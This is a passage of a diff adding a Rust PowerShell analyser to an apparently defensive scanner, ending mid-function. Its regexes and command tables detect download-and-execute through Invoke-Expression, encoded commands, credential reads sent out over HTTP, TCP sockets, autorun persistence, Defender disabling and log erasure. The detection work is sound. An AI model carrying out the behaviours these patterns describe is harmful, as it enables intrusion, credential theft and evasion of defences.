@@ -1,5 +1,1305 @@
-//! PowerShell (pattern level).
+//! PowerShell extractor (pattern level).
+//!
+//! Comments (`# ...` and `<# ... #>`) are blanked first, keeping offsets.
+//! Each logical line (backtick continuations joined) is split into pipeline
+//! segments; each segment's command is classified from its tokens. Simple
+//! `$var = ...` assignments give bindings, so a download stored in a variable
+//! and later passed to `iex` is a download-and-execute, and a secret file
+//! read into `$k` flows into the `-Body $k` of a POST. `-EncodedCommand`
+//! payloads (base64 of UTF-16LE) and `FromBase64String` literals are decoded
+//! and analysed again.
 
-use super::{Sink, Src};
+use super::indicators::{URL_RE, classify_path, classify_url, is_secret_env};
+use super::{Lang, Sink, Src};
+use crate::evidence::{Evidence, Op, Origin, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+use regex::Regex;
+use std::collections::{HashMap, HashSet};
+use std::sync::LazyLock;
 
-pub fn extract(_src: &Src, _sink: &mut Sink) {}
+const LANG: &str = "powershell";
+
+static ENC_CMD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:^|\s)[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand)?\s+([A-Za-z0-9+/=]{12,})")
+        .expect("enc")
+});
+static FROM_B64: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\[(?:System\.)?Convert\]::FromBase64String\(\s*(?:["']([A-Za-z0-9+/=\s]*)["']|([^)]*))\)"#)
+        .expect("b64")
+});
+static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:^|\s)-(?:w|wi|win|wind|windo|window|windows|windowst|windowsty|windowstyl|windowstyle)\s+(?:hidden|1)\b")
+        .expect("hidden")
+});
+static WEBCLIENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\.(DownloadString|DownloadFile|DownloadData|DownloadStringAsync|DownloadFileAsync|OpenRead|UploadString|UploadFile|UploadData|UploadValues)\s*\(([^)]*)\)"#)
+        .expect("webclient")
+});
+static ENV_VAR: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\$env:([A-Za-z_][A-Za-z0-9_]*)").expect("env"));
+static ENV_DUMP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\b(?:Get-ChildItem|gci|dir|ls|Get-Item)\s+(?:-Path\s+)?env:\\?\s*(?:$|[|;)])|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(")
+        .expect("envdump")
+});
+static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)^\s*\$([A-Za-z_][A-Za-z0-9_:]*)\s*=\s*(.*)$").expect("assign")
+});
+static VAR_REF: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\$([A-Za-z_][A-Za-z0-9_]*)").expect("var"));
+static RUN_KEY: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:HKCU|HKLM|HKEY_CURRENT_USER|HKEY_LOCAL_MACHINE):?\\[^'\s]*CurrentVersion\\(?:Run|RunOnce|Policies\\Explorer\\Run)\b")
+        .expect("run")
+});
+static TCP_CLIENT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient\s*\(?\s*["']?([^"',)\s]+)["']?\s*,\s*(\d+)"#)
+        .expect("tcp")
+});
+static READ_ALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\[(?:System\.)?IO\.File\]::(ReadAllText|ReadAllBytes|ReadAllLines|WriteAllText|WriteAllBytes|Copy)\(\s*([^,)]*)"#)
+        .expect("readall")
+});
+static SCRIPTBLOCK: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)\[(?:System\.Management\.Automation\.)?ScriptBlock\]::Create\(").expect("sb")
+});
+
+pub fn extract(src: &Src, sink: &mut Sink) {
+    let masked = mask_comments(src.text);
+    let mut cx = Cx {
+        src,
+        sink,
+        vars: HashMap::new(),
+        net_vars: HashMap::new(),
+        secret_vars: HashSet::new(),
+        downloads: Vec::new(),
+        archives: Vec::new(),
+        dll_import: masked.contains("DllImport"),
+        has_iex: {
+            let l = masked.to_lowercase();
+            l.contains("iex") || l.contains("invoke-expression")
+        },
+    };
+    for (start, line) in logical_lines(&masked) {
+        cx.line(start, &line);
+    }
+}
+
+/// Blanks `#` comments and `<# #>` blocks (quotes respected), keeping
+/// every byte offset.
+fn mask_comments(t: &str) -> String {
+    let b = t.as_bytes();
+    let mut out = b.to_vec();
+    let mut i = 0;
+    let mut quote: Option<u8> = None;
+    while i < b.len() {
+        let c = b[i];
+        if let Some(q) = quote {
+            if c == b'`' && q == b'"' {
+                i += 2;
+                continue;
+            }
+            if c == q {
+                quote = None;
+            }
+            i += 1;
+            continue;
+        }
+        match c {
+            b'"' | b'\'' => quote = Some(c),
+            b'<' if b.get(i + 1) == Some(&b'#') => {
+                let end = t[i..].find("#>").map(|e| i + e + 2).unwrap_or(b.len());
+                for o in &mut out[i..end] {
+                    if *o != b'\n' {
+                        *o = b' ';
+                    }
+                }
+                i = end;
+                continue;
+            }
+            b'#' if i == 0 || b[i - 1].is_ascii_whitespace() || b[i - 1] == b';' => {
+                while i < b.len() && b[i] != b'\n' {
+                    out[i] = b' ';
+                    i += 1;
+                }
+                continue;
+            }
+            b'\n' => quote = None,
+            _ => {}
+        }
+        i += 1;
+    }
+    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
+}
+
+/// Lines with backtick continuations joined; each with its start offset.
+fn logical_lines(t: &str) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut start = 0;
+    let mut off = 0;
+    for raw in t.split_inclusive('\n') {
+        let line = raw.trim_end_matches(['\n', '\r']);
+        if cur.is_empty() {
+            start = off;
+        }
+        off += raw.len();
+        if let Some(head) = line.trim_end().strip_suffix('`') {
+            cur.push_str(head);
+            cur.push(' ');
+            continue;
+        }
+        cur.push_str(line);
+        if !cur.trim().is_empty() {
+            out.push((start, std::mem::take(&mut cur)));
+        }
+        cur.clear();
+    }
+    if !cur.trim().is_empty() {
+        out.push((start, cur));
+    }
+    out
+}
+
+/// Splits on `|` and `;` outside quotes, parentheses and braces.
+fn segments(line: &str) -> Vec<(usize, &str)> {
+    let mut out = Vec::new();
+    let b = line.as_bytes();
+    let mut depth = 0i32;
+    let mut quote: Option<u8> = None;
+    let mut seg = 0;
+    for (i, &c) in b.iter().enumerate() {
+        if let Some(q) = quote {
+            if c == q {
+                quote = None;
+            }
+            continue;
+        }
+        match c {
+            b'"' | b'\'' => quote = Some(c),
+            b'(' | b'{' => depth += 1,
+            b')' | b'}' => depth -= 1,
+            b'|' | b';' if depth <= 0 => {
+                if b.get(i + 1) == Some(&b'|') || i > 0 && b[i - 1] == b'|' {
+                    continue;
+                }
+                out.push((seg, &line[seg..i]));
+                seg = i + 1;
+            }
+            _ => {}
+        }
+    }
+    out.push((seg, &line[seg..]));
+    out
+}
+
+/// Whitespace-separated tokens with quotes removed.
+fn tokens(seg: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    let mut quote: Option<char> = None;
+    let mut depth = 0i32;
+    for c in seg.chars() {
+        if let Some(q) = quote {
+            if c == q {
+                quote = None;
+            } else {
+                cur.push(c);
+            }
+            continue;
+        }
+        match c {
+            '"' | '\'' if depth == 0 => quote = Some(c),
+            '(' => {
+                depth += 1;
+                cur.push(c);
+            }
+            ')' => {
+                depth -= 1;
+                cur.push(c);
+            }
+            c if c.is_whitespace() && depth <= 0 => {
+                if !cur.is_empty() {
+                    out.push(std::mem::take(&mut cur));
+                }
+            }
+            c => cur.push(c),
+        }
+        if out.len() > 256 {
+            break;
+        }
+    }
+    if !cur.is_empty() {
+        out.push(cur);
+    }
+    out
+}
+
+/// The value of `-Name value` (case-insensitive; `-Name:value` too).
+fn param<'t>(toks: &'t [String], names: &[&str]) -> Option<&'t str> {
+    for (i, t) in toks.iter().enumerate() {
+        let Some(flag) = t.strip_prefix('-') else {
+            continue;
+        };
+        let (f, inline) = match flag.split_once(':') {
+            Some((f, v)) => (f, Some(v)),
+            None => (flag, None),
+        };
+        if names.iter().any(|n| n.eq_ignore_ascii_case(f)) {
+            return inline.or_else(|| toks.get(i + 1).map(String::as_str));
+        }
+    }
+    None
+}
+
+fn has_flag(toks: &[String], names: &[&str]) -> bool {
+    toks.iter().any(|t| {
+        t.strip_prefix('-')
+            .map(|f| f.split(':').next().unwrap_or(f))
+            .is_some_and(|f| names.iter().any(|n| n.eq_ignore_ascii_case(f)))
+    })
+}
+
+/// Positional arguments after the command name (flag values skipped).
+fn positional(toks: &[String], valued: &[&str]) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut i = 1;
+    while i < toks.len() {
+        let t = &toks[i];
+        if let Some(f) = t.strip_prefix('-') {
+            if !f.contains(':') && valued.iter().any(|n| n.eq_ignore_ascii_case(f)) {
+                i += 1;
+            }
+        } else {
+            out.push(t.clone());
+        }
+        i += 1;
+    }
+    out
+}
+
+fn decode_utf16le(bytes: &[u8]) -> String {
+    let units: Vec<u16> = bytes
+        .chunks(2)
+        .map(|c| u16::from_le_bytes([c[0], *c.get(1).unwrap_or(&0)]))
+        .collect();
+    String::from_utf16_lossy(&units)
+}
+
+/// Decodes a base64 payload as UTF-16LE when it looks like it (PowerShell's
+/// `-EncodedCommand`), else as UTF-8.
+fn b64_text(s: &str) -> Option<String> {
+    let bytes = super::deobf::b64(s)?;
+    if bytes.len() > crate::limits::MAX_DECODED_BYTES || bytes.is_empty() {
+        return None;
+    }
+    let zeros = bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count();
+    let text = if bytes.len() >= 4 && zeros * 2 >= bytes.len() / 2 {
+        decode_utf16le(&bytes)
+    } else {
+        crate::text::decode_lossy(&bytes).0
+    };
+    let printable = text
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
+        .count();
+    (printable * 10 >= text.chars().count() * 9 && !text.contains('\u{fffd}')).then_some(text)
+}
+
+struct Cx<'s, 'a> {
+    src: &'s Src<'a>,
+    sink: &'s mut Sink,
+    /// `$name` → string value.
+    vars: HashMap<String, String>,
+    /// `$name` → URL it was downloaded from.
+    net_vars: HashMap<String, String>,
+    secret_vars: HashSet<String>,
+    /// Files written by downloads (lower-cased file names).
+    downloads: Vec<String>,
+    /// (archive file name, binding).
+    archives: Vec<(String, String)>,
+    dll_import: bool,
+    has_iex: bool,
+}
+
+const DOWNLOADERS: &[&str] = &[
+    "invoke-webrequest",
+    "iwr",
+    "invoke-restmethod",
+    "irm",
+    "curl",
+    "wget",
+    "start-bitstransfer",
+];
+
+impl<'s, 'a> Cx<'s, 'a> {
+    fn emit(&mut self, mut ev: Evidence, start: usize, end: usize, tags: &[Tag]) {
+        if self.sink.items.len() >= crate::limits::MAX_EVIDENCE_PER_FILE {
+            self.sink.dropped += 1;
+            return;
+        }
+        ev.tags.extend(tags.iter().copied());
+        if ev.instrument.is_empty() {
+            ev.instrument = "powershell".into();
+        }
+        let ev = self.src.at(ev, start, end, LANG);
+        self.sink.push(ev);
+    }
+
+    /// Substitutes known `$var` values and home-directory variables.
+    fn resolve(&self, s: &str) -> String {
+        let mut out = s.trim_matches(['"', '\'']).to_string();
+        for (k, home) in [
+            ("$env:APPDATA", "~/AppData/Roaming"),
+            ("$env:LOCALAPPDATA", "~/AppData/Local"),
+            ("$env:USERPROFILE", "~"),
+            ("$env:HOMEPATH", "~"),
+            ("$env:TEMP", "/tmp"),
+            ("$env:TMP", "/tmp"),
+            ("$HOME", "~"),
+            ("${env:USERPROFILE}", "~"),
+        ] {
+            if let Some(i) = out.to_lowercase().find(&k.to_lowercase()) {
+                out.replace_range(i..i + k.len(), home);
+            }
+        }
+        if out.contains('$') {
+            for (k, v) in &self.vars {
+                let pat = format!("${k}");
+                if out.contains(&pat) && v.len() < 4096 {
+                    out = out.replace(&pat, v);
+                }
+            }
+        }
+        out.replace('\\', "/")
+    }
+
+    fn refs(&self, seg: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        for c in VAR_REF.captures_iter(seg) {
+            let name = c.get(1).map(|m| m.as_str()).unwrap_or("");
+            let lower = name.to_lowercase();
+            if matches!(
+                lower.as_str(),
+                "true" | "false" | "null" | "_" | "psscriptroot" | "pwd" | "home" | "env"
+            ) {
+                continue;
+            }
+            let b = format!("${name}");
+            if !out.contains(&b) && out.len() < 12 {
+                out.push(b);
+            }
+        }
+        out
+    }
+
+    fn line(&mut self, base: usize, line: &str) {
+        let first = self.sink.items.len();
+        let lower = line.to_lowercase();
+        let (assign_to, body_off) = match ASSIGN.captures(line) {
+            Some(c) => (
+                c.get(1).map(|m| m.as_str().to_string()),
+                c.get(2).map(|m| m.start()).unwrap_or(0),
+            ),
+            None => (None, 0),
+        };
+        let binding = assign_to.as_ref().map(|n| format!("${n}"));
+        if let (Some(name), true) = (&assign_to, body_off > 0) {
+            let value = line[body_off..].trim();
+            if (value.starts_with('\'') && value.ends_with('\'')
+                || value.starts_with('"') && value.ends_with('"'))
+                && value.len() >= 2
+            {
+                let v = self.resolve(value);
+                self.vars.insert(name.clone(), v);
+            }
+        }
+        let segs = segments(line);
+        let mut downloaded: Option<String> = None;
+        let seg_names: Vec<String> = segs
+            .iter()
+            .map(|(_, s)| {
+                let s = s.trim();
+                let s = match ASSIGN.captures(s) {
+                    Some(c) => c.get(2).map(|m| m.as_str()).unwrap_or(s),
+                    None => s,
+                };
+                tokens(s.trim_start_matches(['(', '&', '.', ' ']))
+                    .first()
+                    .map(|t| t.to_lowercase())
+                    .unwrap_or_default()
+            })
+            .collect();
+        for (i, (off, seg)) in segs.iter().enumerate() {
+            let start = base + off;
+            let end = start + seg.len();
+            let body = match ASSIGN.captures(seg) {
+                Some(c) => c.get(2).map(|m| m.as_str()).unwrap_or(seg),
+                None => seg,
+            };
+            let body = body.trim().trim_start_matches(['&', ' ']);
+            let inner = body.trim_start_matches('(').trim_start();
+            let toks = tokens(inner);
+            let name = toks.first().map(|t| t.to_lowercase()).unwrap_or_default();
+            let piped_to_iex = seg_names
+                .get(i + 1)
+                .is_some_and(|n| n == "iex" || n == "invoke-expression");
+            let out = if i + 1 == segs.len() {
+                binding.clone()
+            } else {
+                None
+            };
+            if let Some(url) = self.command(&name, &toks, body, start, end, out.clone()) {
+                downloaded = Some(url.clone());
+                if piped_to_iex {
+                    self.download_exec(&url, start, end, Vec::new());
+                }
+            }
+            // `iex (iwr ...)` / `iex $code` / `[scriptblock]::Create(...)`.
+            if name == "iex" || name == "invoke-expression" {
+                let rest = inner[toks[0].len().min(inner.len())..].trim();
+                let inner_toks = tokens(rest.trim_start_matches('('));
+                let inner_name = inner_toks
+                    .first()
+                    .map(|t| t.to_lowercase())
+                    .unwrap_or_default();
+                let mut inputs = self.refs(rest);
+                if i > 0 {
+                    inputs.push(format!("$pipe_{}", base + segs[i - 1].0));
+                }
+                let mut ev = Evidence::new(
+                    Op::DynamicCode,
+                    A::CallTool,
+                    R::Process,
+                    crate::text::snippet(rest, 200),
+                )
+                .object("Invoke-Expression of code")
+                .instrument("Invoke-Expression");
+                ev.inputs = inputs.clone();
+                self.emit(ev, start, end, &[]);
+                let wrapped_url = if DOWNLOADERS.contains(&inner_name.as_str()) {
+                    // `iex (iwr URL).Content`: the download is a step too.
+                    let inner_body = rest.trim_start_matches('(');
+                    self.command(&inner_name, &inner_toks, inner_body, start, end, None)
+                } else if WEBCLIENT.is_match(rest) {
+                    URL_RE.find(rest).map(|m| self.resolve(m.as_str()))
+                } else {
+                    None
+                };
+                let var_url = inputs.iter().find_map(|b| self.net_vars.get(b)).cloned();
+                // `iwr ... | iex` was reported with the download.
+                let piped = i > 0 && DOWNLOADERS.contains(&seg_names[i - 1].as_str());
+                if let Some(u) = wrapped_url.or(var_url)
+                    && !piped
+                {
+                    self.download_exec(&u, start, end, inputs);
+                }
+            }
+        }
+        if lower.contains("scriptblock") && SCRIPTBLOCK.is_match(line) {
+            let m = SCRIPTBLOCK
+                .find(line)
+                .map(|m| (m.start(), m.end()))
+                .unwrap_or((0, 0));
+            let inputs = self.refs(&line[m.1..]);
+            let mut ev = Evidence::new(Op::DynamicCode, A::CallTool, R::Process, "ScriptBlock")
+                .object("script block built from a string")
+                .instrument("[scriptblock]::Create");
+            ev.inputs = inputs.clone();
+            self.emit(ev, base + m.0, base + line.len(), &[]);
+            if let Some(u) = inputs.iter().find_map(|b| self.net_vars.get(b)).cloned() {
+                self.download_exec(&u, base + m.0, base + line.len(), inputs);
+            }
+        }
+        if lower.contains(".download") || lower.contains(".upload") || lower.contains("openread") {
+            self.webclient(base, line, binding.clone(), &mut downloaded);
+        }
+        self.encoded(base, line);
+        if lower.contains("frombase64string") {
+            self.base64_literals(base, line, binding.clone());
+        }
+        self.env(base, line, &lower, binding.clone());
+        if lower.contains("tcpclient") {
+            self.sockets(base, line);
+        }
+        if lower.contains("io.file]") {
+            self.file_apis(base, line, binding.clone());
+        }
+        if let (Some(b), Some(u)) = (&binding, &downloaded) {
+            self.net_vars.insert(b.clone(), u.clone());
+        }
+        if let Some(b) = &binding {
+            let end = self.sink.items.len();
+            let secret = self.sink.items[first.min(end)..end].iter().any(|e| {
+                e.scope == R::Credentials
+                    && matches!(e.op, Op::FileRead | Op::EnvRead | Op::EnvDump)
+            });
+            if secret {
+                self.secret_vars.insert(b.clone());
+            }
+        }
+        // `-WindowStyle Hidden` hides whatever the line starts.
+        if lower.contains("-w") && HIDDEN.is_match(line) {
+            let end = self.sink.items.len();
+            if end == first {
+                let ev = Evidence::new(
+                    Op::Background,
+                    A::CallTool,
+                    R::Process,
+                    crate::text::snippet(line, 200),
+                )
+                .object("process started with a hidden window")
+                .instrument("powershell");
+                self.emit(ev, base, base + line.len(), &[]);
+            }
+            let end = self.sink.items.len();
+            for e in &mut self.sink.items[first.min(end)..end] {
+                e.tags.insert(Tag::Silenced);
+                e.tags.insert(Tag::Detached);
+            }
+        }
+    }
+
+    fn download_exec(&mut self, url: &str, start: usize, end: usize, inputs: Vec<String>) {
+        let mut ev = Evidence::new(Op::DownloadExec, A::CallTool, R::Process, url)
+            .tags(classify_url(url))
+            .object("downloaded code executed")
+            .instrument("Invoke-Expression");
+        ev.inputs = inputs;
+        self.emit(ev, start, end, &[]);
+    }
+
+    /// One pipeline segment's command. Returns the URL of a download.
+    fn command(
+        &mut self,
+        name: &str,
+        toks: &[String],
+        body: &str,
+        start: usize,
+        end: usize,
+        out: Option<String>,
+    ) -> Option<String> {
+        let name = name.trim_end_matches(".exe");
+        match name {
+            n if DOWNLOADERS.contains(&n) => {
+                let url = param(toks, &["Uri", "Source"])
+                    .map(str::to_string)
+                    .or_else(|| {
+                        positional(
+                            toks,
+                            &[
+                                "Method",
+                                "OutFile",
+                                "Body",
+                                "InFile",
+                                "Headers",
+                                "Destination",
+                                "ContentType",
+                                "o",
+                                "X",
+                                "d",
+                                "UserAgent",
+                            ],
+                        )
+                        .into_iter()
+                        .find(|t| t.contains("://") || t.starts_with('$'))
+                    })
+                    .map(|u| self.resolve(&u))
+                    .map(|u| match URL_RE.find(&u) {
+                        Some(m) => m.as_str().to_string(),
+                        None => u.trim_end_matches(')').to_string(),
+                    })
+                    .unwrap_or_default();
+                let method = param(toks, &["Method", "X"])
+                    .unwrap_or("GET")
+                    .to_uppercase();
+                let body_arg = param(toks, &["Body", "InFile", "d", "data"]);
+                let sends =
+                    matches!(method.as_str(), "POST" | "PUT" | "PATCH") || body_arg.is_some();
+                let tags = classify_url(&url);
+                let mut inputs = self.refs(body);
+                if let Some(f) = param(toks, &["InFile"]) {
+                    let f = self.resolve(f).to_lowercase();
+                    for (a, b) in &self.archives {
+                        if f.ends_with(a.as_str()) || a.ends_with(&f) {
+                            inputs.push(b.clone());
+                        }
+                    }
+                }
+                if sends {
+                    let mut ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, url.clone())
+                        .tags(tags)
+                        .object("data sent over HTTP")
+                        .instrument(name);
+                    ev.inputs = inputs;
+                    ev.output = out;
+                    self.emit(ev, start, end, &[]);
+                    None
+                } else {
+                    let mut ev = Evidence::new(Op::NetFetch, A::Request, R::Network, url.clone())
+                        .tags(tags)
+                        .object("HTTP request")
+                        .instrument(name);
+                    ev.inputs = inputs;
+                    if let Some(f) = param(toks, &["OutFile", "Destination", "o"]) {
+                        let f = self.resolve(f);
+                        ev.object = format!("download to {f}");
+                        ev.output = Some(format!("$file_{f}"));
+                        self.downloads.push(file_name(&f));
+                    } else {
+                        ev.output = out;
+                    }
+                    self.emit(ev, start, end, &[]);
+                    Some(url)
+                }
+            }
+            "start-process" | "saps" | "start" => {
+                let target = param(toks, &["FilePath"])
+                    .map(str::to_string)
+                    .or_else(|| {
+                        positional(
+                            toks,
+                            &["ArgumentList", "Verb", "WindowStyle", "WorkingDirectory"],
+                        )
+                        .into_iter()
+                        .next()
+                    })
+                    .map(|t| self.resolve(&t))
+                    .unwrap_or_default();
+                let args = param(toks, &["ArgumentList", "Args"]).unwrap_or("");
+                let runas = param(toks, &["Verb"]).is_some_and(|v| v.eq_ignore_ascii_case("runas"));
+                self.run(format!("{target} {args}").trim(), start, end, runas);
+                None
+            }
+            "remove-item" | "rm" | "del" | "erase" | "rd" | "rmdir" | "ri" => {
+                let target = param(toks, &["Path", "LiteralPath"])
+                    .map(str::to_string)
+                    .or_else(|| {
+                        positional(
+                            toks,
+                            &["Path", "LiteralPath", "Filter", "Include", "Exclude"],
+                        )
+                        .into_iter()
+                        .next()
+                    })
+                    .map(|t| self.resolve(&t))
+                    .unwrap_or_default();
+                let (scope, mut tags) = classify_path(&target);
+                if has_flag(toks, &["Recurse", "r", "s"]) {
+                    tags.insert(Tag::Recursive);
+                }
+                if has_flag(toks, &["Force", "fo", "f", "q"]) {
+                    tags.insert(Tag::ForceFlag);
+                }
+                if target.to_lowercase().contains("psreadline")
+                    || target.contains("ConsoleHost_history")
+                {
+                    let ev = Evidence::new(Op::AntiForensics, A::Write, R::LocalFs, target.clone())
+                        .tag(Tag::HistoryFile)
+                        .object("shell history erased")
+                        .instrument("Remove-Item");
+                    self.emit(ev, start, end, &[]);
+                    return None;
+                }
+                let ev = Evidence::new(Op::FileDelete, A::Write, scope, target)
+                    .tags(tags)
+                    .object("file deletion")
+                    .instrument("Remove-Item");
+                self.emit(ev, start, end, &[]);
+                None
+            }
+            "get-content" | "gc" | "cat" | "type" | "copy-item" | "cp" | "copy" => {
+                let target = param(toks, &["Path", "LiteralPath"])
+                    .map(str::to_string)
+                    .or_else(|| {
+                        positional(
+                            toks,
+                            &["Path", "Destination", "Encoding", "TotalCount", "Tail"],
+                        )
+                        .into_iter()
+                        .next()
+                    })
+                    .map(|t| self.resolve(&t))
+                    .unwrap_or_default();
+                if target.is_empty() {
+                    return None;
+                }
+                let (scope, tags) = classify_path(&target);
+                let mut ev = Evidence::new(Op::FileRead, A::Read, scope, target)
+                    .tags(tags)
+                    .object("file read")
+                    .instrument("Get-Content");
+                ev.output = out;
+                self.emit(ev, start, end, &[]);
+                None
+            }
+            "set-content" | "add-content" | "out-file" | "sc" | "ac" => {
+                let target = param(toks, &["Path", "FilePath", "LiteralPath"])
+                    .map(str::to_string)
+                    .or_else(|| positional(toks, &["Value", "Encoding"]).into_iter().next())
+                    .map(|t| self.resolve(&t))
+                    .unwrap_or_default();
+                let (scope, tags) = classify_path(&target);
+                let persist = target.contains("Start Menu/Programs/Startup");
+                let mut ev = Evidence::new(Op::FileWrite, A::Write, scope, target.clone())
+                    .tags(tags)
+                    .object("file write")
+                    .instrument(name);
+                ev.inputs = self.refs(body);
+                self.emit(ev, start, end, &[]);
+                if persist {
+                    self.persist(&target, Tag::LaunchAgent, start, end);
+                }
+                None
+            }
+            "compress-archive" => {
+                let dest = param(toks, &["DestinationPath"])
+                    .map(|t| self.resolve(t))
+                    .unwrap_or_default();
+                let srcp = param(toks, &["Path", "LiteralPath"])
+                    .map(|t| self.resolve(t))
+                    .unwrap_or_default();
+                let (scope, tags) = classify_path(&srcp);
+                let b = format!("$archive_{}", file_name(&dest));
+                let mut ev = Evidence::new(Op::Archive, A::Write, scope, srcp)
+                    .tags(tags)
+                    .object(format!("files packed into {dest}"))
+                    .instrument("Compress-Archive");
+                ev.output = Some(b.clone());
+                self.emit(ev, start, end, &[]);
+                self.archives.push((file_name(&dest), b));
+                None
+            }
+            "expand-archive" => {
+                let p = param(toks, &["Path", "LiteralPath"])
+                    .map(str::to_string)
+                    .or_else(|| positional(toks, &["DestinationPath"]).into_iter().next())
+                    .map(|t| self.resolve(&t))
+                    .unwrap_or_default();
+                let (scope, tags) = classify_path(&p);
+                let ev = Evidence::new(Op::Archive, A::Write, scope, p)
+                    .tags(tags)
+                    .object("archive extracted")
+                    .instrument("Expand-Archive");
+                self.emit(ev, start, end, &[]);
+                None
+            }
+            "set-mppreference" | "add-mppreference" => {
+                let l = body.to_lowercase();
+                if l.contains("-disable") || l.contains("-exclusion") {
+                    let ev = Evidence::new(
+                        Op::SecurityDisable,
+                        A::UpdateState,
+                        R::Process,
+                        crate::text::snippet(body, 200),
+                    )
+                    .object("Microsoft Defender protection disabled")
+                    .instrument(name);
+                    self.emit(ev, start, end, &[Tag::Windows]);
+                }
+                None
+            }
+            "netsh" if body.to_lowercase().contains("state off") => {
+                let ev = Evidence::new(
+                    Op::SecurityDisable,
+                    A::UpdateState,
+                    R::Process,
+                    crate::text::snippet(body, 200),
+                )
+                .object("firewall disabled")
+                .instrument("netsh");
+                self.emit(ev, start, end, &[Tag::Windows]);
+                None
+            }
+            "schtasks" if body.to_lowercase().contains("/create") => {
+                self.persist(body, Tag::Cron, start, end);
+                None
+            }
+            "register-scheduledtask"
+            | "new-scheduledtask"
+            | "new-scheduledtaskaction"
+            | "register-scheduledjob" => {
+                if name != "new-scheduledtaskaction" {
+                    self.persist(body, Tag::Cron, start, end);
+                }
+                None
+            }
+            "new-service" | "sc.exe" => {
+                self.persist(body, Tag::Systemd, start, end);
+                None
+            }
+            "new-itemproperty" | "set-itemproperty" | "reg" | "sp" if RUN_KEY.is_match(body) => {
+                self.persist(body, Tag::LaunchAgent, start, end);
+                None
+            }
+            "add-type" => {
+                if self.dll_import || body.contains("DllImport") {
+                    let ev = Evidence::new(Op::DynamicCode, A::CallTool, R::Process, "Add-Type")
+                        .object("native code compiled at runtime (DllImport)")
+                        .instrument("Add-Type");
+                    self.emit(ev, start, end, &[Tag::Windows]);
+                }
+                None
+            }
+            "get-clipboard" | "gcb" => {
+                let mut ev = Evidence::new(Op::ClipboardRead, A::Read, R::UserData, "clipboard")
+                    .object("clipboard read")
+                    .instrument(name);
+                ev.output = out;
+                self.emit(ev, start, end, &[]);
+                None
+            }
+            "cmdkey" | "vaultcmd" if body.to_lowercase().contains("/list") => {
+                let mut ev = Evidence::new(Op::KeychainRead, A::Read, R::Credentials, name)
+                    .object("Windows credential store read")
+                    .instrument(name);
+                ev.output = out;
+                self.emit(ev, start, end, &[]);
+                None
+            }
+            "clear-history" | "wevtutil" => {
+                if name == "clear-history" || body.to_lowercase().contains(" cl ") {
+                    let ev = Evidence::new(Op::AntiForensics, A::Write, R::LocalFs, name)
+                        .tag(Tag::HistoryFile)
+                        .object("history or event log erased")
+                        .instrument(name);
+                    self.emit(ev, start, end, &[]);
+                }
+                None
+            }
+            "powershell" | "pwsh" => {
+                if has_flag(toks, &["c", "Command", "File", "f"]) || HIDDEN.is_match(body) {
+                    let ev = Evidence::new(
+                        Op::Exec,
+                        A::CallTool,
+                        R::Process,
+                        crate::text::snippet(body, 200),
+                    )
+                    .object("PowerShell started")
+                    .instrument(name);
+                    self.emit(ev, start, end, &[]);
+                }
+                None
+            }
+            n if n.ends_with(".exe") || n.starts_with("./") || n.starts_with(".\\") => {
+                self.run(&self.resolve(n), start, end, false);
+                None
+            }
+            _ => None,
+        }
+    }
+
+    fn run(&mut self, target: &str, start: usize, end: usize, runas: bool) {
+        if target.is_empty() {
+            return;
+        }
+        let file = file_name(target.split_whitespace().next().unwrap_or(target));
+        let mut ev = Evidence::new(Op::Exec, A::CallTool, R::Process, target)
+            .object("program started")
+            .instrument("Start-Process");
+        if self.downloads.contains(&file) {
+            ev.op = Op::DownloadExec;
+            ev.object = "downloaded program run".into();
+            ev.inputs = vec![format!("$file_{target}")];
+        }
+        self.emit(ev, start, end, &[]);
+        if runas {
+            let ev = Evidence::new(Op::Privileged, A::UpdateState, R::Process, target)
+                .object("program run elevated (RunAs)")
+                .instrument("Start-Process -Verb RunAs");
+            self.emit(ev, start, end, &[Tag::Windows]);
+        }
+    }
+
+    fn persist(&mut self, what: &str, tag: Tag, start: usize, end: usize) {
+        let ev = Evidence::new(
+            Op::Persistence,
+            A::UpdateState,
+            R::Process,
+            crate::text::snippet(what, 200),
+        )
+        .object(match tag {
+            Tag::Cron => "scheduled task",
+            Tag::Systemd => "Windows service",
+            _ => "autorun entry",
+        })
+        .instrument("powershell")
+        .tag(tag);
+        self.emit(ev, start, end, &[Tag::Windows]);
+    }
+
+    /// `(New-Object Net.WebClient).DownloadString(url)` and friends.
+    fn webclient(&mut self, base: usize, line: &str, out: Option<String>, dl: &mut Option<String>) {
+        for c in WEBCLIENT.captures_iter(line) {
+            let m = c.get(0).map(|m| (m.start(), m.end())).unwrap_or((0, 0));
+            let method = c.get(1).map(|m| m.as_str()).unwrap_or("");
+            let args = c.get(2).map(|m| m.as_str()).unwrap_or("");
+            let parts: Vec<String> = args.split(',').map(|a| self.resolve(a.trim())).collect();
